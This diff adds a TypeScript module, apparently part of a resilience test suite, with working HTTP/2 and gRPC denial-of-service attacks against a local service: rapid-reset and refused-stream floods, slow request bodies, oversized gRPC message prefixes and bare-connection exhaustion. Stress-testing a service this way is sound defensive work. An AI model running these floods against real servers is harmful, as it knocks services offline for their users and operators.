@@ -1,0 +1,116 @@
+import { once } from "node:events";
+import { connect, type Socket } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+import { connectRaw, frameTypes, http2Frame, postHeaders, resetStream } from "../../raw-http2.ts";
+
+/** What an attack needs. It runs until the signal aborts. */
+export interface Target {
+  port: number;
+  caPem: string;
+  /** The attacker's certificate, in PEM. */
+  pair: { cert: string; key: string };
+  signal: AbortSignal;
+}
+
+const forwardPath = "/svc.ingest.v1.IngestService/Forward";
+const heartbeatPath = "/v1/collector/heartbeat";
+const grpc = { "content-type": "application/grpc" };
+
+/** Opens a connection again and again, and writes bursts on each until core closes it. */
+const flood = async (target: Target, burst: (from: number) => Buffer, streamsOfBurst: number): Promise<number> => {
+  let streams = 0;
+  while (!target.signal.aborted) {
+    const { socket, closed } = await connectRaw(target, target.pair);
+    for (let id = 1; id < 200_000 && socket.writable && !target.signal.aborted; id += 2 * streamsOfBurst) {
+      streams += streamsOfBurst;
+      if (!socket.write(burst(id))) await Promise.race([once(socket, "drain").catch(() => 0), closed]);
+      await sleep(1);
+    }
+    socket.destroy();
+    await sleep(20);
+  }
+  return streams;
+};
+
+/** Holds many connections, with `streams` unfinished requests on each, and makes new ones when core closes some. */
+const hold = async (
+  target: Target,
+  connections: number,
+  open: (id: number) => Buffer,
+  streams: number,
+): Promise<number> => {
+  const sockets = new Set<Socket>();
+  let opened = 0;
+  while (!target.signal.aborted) {
+    while (sockets.size < connections && !target.signal.aborted) {
+      const { socket } = await connectRaw(target, target.pair);
+      sockets.add(socket);
+      socket.once("close", () => sockets.delete(socket));
+      for (let index = 0; index < streams && socket.writable; index++, opened++) socket.write(open(2 * index + 1));
+    }
+    await sleep(50);
+  }
+  for (const socket of sockets) socket.destroy();
+  return opened;
+};
+
+const data = (id: number, bytes: number): Buffer => http2Frame(frameTypes.data, 0, id, Buffer.alloc(bytes));
+
+/** The attacks, by name. Each returns how many streams or connections it opened. */
+export const attacks: Readonly<Record<string, (target: Target) => Promise<number>>> = {
+  "rapid reset": (target) =>
+    flood(
+      target,
+      (from) =>
+        Buffer.concat(
+          Array.from({ length: 100 }, (_, index) => [
+            postHeaders(from + 2 * index, forwardPath, grpc),
+            resetStream(from + 2 * index),
+          ]).flat(),
+        ),
+      100,
+    ),
+  "refused streams": (target) =>
+    flood(
+      target,
+      (from) =>
+        Buffer.concat(Array.from({ length: 10 }, (_, index) => postHeaders(from + 2 * index, forwardPath, grpc))),
+      10,
+    ),
+  "slow bodies": (target) =>
+    hold(
+      target,
+      20,
+      (id) => Buffer.concat([postHeaders(id, heartbeatPath), ...Array.from({ length: 4 }, () => data(id, 16_000))]),
+      100,
+    ),
+  "slow messages": (target) =>
+    hold(
+      target,
+      20,
+      (id) => {
+        const prefix = Buffer.alloc(5);
+        prefix.writeUInt32BE(4_000_000, 1);
+        return Buffer.concat([
+          postHeaders(id, forwardPath, grpc),
+          http2Frame(frameTypes.data, 0, id, prefix),
+          ...Array.from({ length: 4 }, () => data(id, 16_000)),
+        ]);
+      },
+      100,
+    ),
+  "bare connections": async ({ port, signal }) => {
+    const sockets = new Set<Socket>();
+    let opened = 0;
+    while (!signal.aborted) {
+      for (let index = 0; index < 50 && sockets.size < 2_000; index++, opened++) {
+        const socket = connect(port, "127.0.0.2", () => undefined);
+        sockets.add(socket.on("error", () => undefined));
+        socket.once("close", () => sockets.delete(socket));
+      }
+      await sleep(50);
+    }
+    for (const socket of sockets) socket.destroy();
+    return opened;
+  },
+};
